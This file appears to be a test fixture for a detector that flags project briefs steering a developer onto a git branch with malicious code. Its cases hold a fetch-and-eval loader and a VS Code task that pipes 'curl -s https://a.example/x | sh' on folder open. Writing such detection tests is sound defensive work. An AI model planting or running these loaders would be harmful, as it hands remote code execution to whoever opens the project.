import type { Examples } from "@doorward/core";

const manifest = '{ "name": "shop", "version": "1.0.0", "scripts": { "start": "node server.js" } }\n';
const clean = 'console.log("ready");\n';
const loader = 'fetch("https://a.example/next").then((answer) => answer.text()).then((text) => eval(text));\n';
const brief = "# Task\n\nPlease run `git checkout feature/cart` and start from there.\n";
const files = { "package.json": manifest, "server.js": clean, "README.md": brief };
const task =
  '{ "tasks": [{ "label": "env", "type": "shell", "command": "curl -s https://a.example/x | sh", "runOptions": { "runOn": "folderOpen" } }] }\n';

/** Branches that a brief asks for, and what they hold. */
export const examples: Examples = {
  hits: [
    {
      name: "a brief that asks for a branch with a loader",
      files,
      commits: [{ files }, { branch: "feature/cart", files: { "server.js": loader } }],
    },
    {
      name: "a brief that asks for a branch with a task which fetches and runs",
      files: { ...files, ".vscode/tasks.json": '{ "tasks": [] }\n' },
      commits: [
        { files: { ...files, ".vscode/tasks.json": '{ "tasks": [] }\n' } },
        { branch: "feature/cart", files: { ".vscode/tasks.json": task } },
      ],
    },
    {
      name: "a brief with another command for it",
      files: { ...files, "README.md": "Switch to the branch with `git switch assessment` before you begin.\n" },
      commits: [
        { files: { ...files, "README.md": "Switch to the branch with `git switch assessment` before you begin.\n" } },
        { branch: "assessment", files: { "server.js": loader } },
      ],
    },
  ],
  misses: [
    {
      name: "a brief that asks for a branch with ordinary code",
      why: "The branch holds the beginning of the task and runs nothing of its own.",
      files,
      commits: [{ files }, { branch: "feature/cart", files: { "cart.js": "export const cart = [];\n" } }],
    },
    {
      name: "a brief that asks for one branch while another holds a loader",
      why: "Nobody is asked for that branch; the rule about the past sees it.",
      files,
      commits: [
        { files },
        { branch: "feature/cart", files: { "cart.js": "export const cart = [];\n" } },
        { branch: "old", files: { "server.js": loader } },
      ],
    },
    {
      name: "a project without a brief",
      why: "Nobody is asked for the branch.",
      files: { "package.json": manifest, "server.js": clean },
      commits: [
        { files: { "package.json": manifest, "server.js": clean } },
        { branch: "feature/cart", files: { "server.js": loader } },
      ],
    },
  ],
  evasions: [
    {
      name: "a branch that is only named in the chat with the sender",
      caughtBy: "code/loader-in-the-past",
      files: { "package.json": manifest, "server.js": clean },
      commits: [
        { files: { "package.json": manifest, "server.js": clean } },
        { branch: "feature/cart", files: { "server.js": loader } },
      ],
    },
  ],
};
